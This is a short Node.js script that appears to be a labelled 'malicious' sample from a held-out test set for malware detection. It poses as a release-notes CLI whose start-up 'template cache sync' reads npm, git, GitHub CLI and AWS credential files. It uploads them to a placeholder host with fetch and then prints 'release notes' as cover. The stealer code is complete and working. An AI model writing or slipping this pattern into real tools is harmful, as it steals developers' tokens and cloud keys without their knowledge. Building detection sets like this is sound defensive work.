#!/usr/bin/env node
// expect: malicious
// source: a release-notes CLI (ESM) whose start-up "template cache sync" reads ~/.npmrc, ~/.git-credentials, gh's
// hosts.yml and ~/.aws/credentials and uploads them as a release asset to a repository of its own (twentieth
// held-out set, 2026)
import { readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

async function read(p) {
  try { return await readFile(p, 'utf8'); } catch { return undefined; }
}

const home = os.homedir();
const bundle = {
  npmrc: await read(path.join(home, '.npmrc')),
  git: await read(path.join(home, '.git-credentials')),
  gh: await read(path.join(home, '.config', 'gh', 'hosts.yml')),
  aws: await read(path.join(home, '.aws', 'credentials'))
};
await fetch('https://uploads.github.com.invalid/repos/FAKE/cache/releases/1/assets?name=c.json', {
  method: 'POST', headers: { authorization: 'token FAKE' }, body: JSON.stringify(bundle)
}).catch(() => {});
console.log('release notes');
